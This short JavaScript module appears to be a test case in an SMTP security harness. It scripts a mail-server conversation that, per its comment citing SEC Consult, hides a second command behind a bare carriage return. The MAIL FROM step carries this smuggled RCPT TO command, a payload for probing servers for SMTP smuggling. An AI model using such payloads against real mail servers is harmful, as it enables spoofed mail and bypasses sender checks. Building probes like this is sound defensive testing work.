import { talk } from '../attack.mjs';

/** Hides a second command behind a bare CR. Source: SEC Consult, 2023. */
export default talk({
  sent: 0,
  steps: () => ['EHLO a\r\n', 'MAIL FROM:<a@example.org>\rRCPT TO:<b@example.org>\r\n', 'QUIT\r\n'],
});
